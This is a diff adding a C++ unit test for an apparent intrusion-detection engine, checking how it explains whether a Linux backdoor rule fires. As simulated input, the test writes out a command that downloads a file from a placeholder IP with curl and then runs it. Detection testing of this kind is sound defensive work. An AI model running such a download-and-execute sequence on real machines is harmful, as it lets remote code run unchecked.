@@ -100,6 +100,23 @@ TEST_F(WhyTest, CountsWhatACorrelationRead) {
     EXPECT_EQ(ask(1'010, "r").stage, WhyStage::Held);
 }
 
+TEST_F(WhyTest, NamesTheDetectorClassAndWhatItNeeds) {
+    in_force(0, {{"a.yml", rule("r", "other")}});
+    run(1'000, "d", "curl -o /tmp/x http://198.51.100.7/x");
+    const auto missing = ask(1'000, "IoT_LinuxBackdoor");
+    EXPECT_EQ(missing.stage, WhyStage::Condition);
+    EXPECT_EQ(missing.rule_id, "fieldwatch-a24");
+    EXPECT_THAT(missing.sentence, HasSubstr("two ProcessCreate events"));
+    EXPECT_THAT(missing.sentence, HasSubstr("ProcessCreate 1"));
+    run(1'010, "d", "/tmp/x");
+    const auto raised = ask(1'010, "fieldwatch-a24");
+    EXPECT_EQ(raised.stage, WhyStage::Raised) << raised.sentence;
+    ASSERT_EQ(raised.events.size(), 1u);
+    EXPECT_TRUE(raised.events[0].alert);
+    EXPECT_EQ(ask(1'010, "IoT_LinuxBackdoor", "other").stage, WhyStage::NoRecord);
+    EXPECT_THAT(ask(1'010, "IoT_X_RareProcess").sentence, HasSubstr("`behaviour` is off"));
+}
+
 TEST_F(WhyTest, RefusesRulesThatAreNone) {
     in_force(0, {{"a.yml", rule("r", "miner")}});
     const auto out = why(journal_->reader(), kPartitions, *store_,
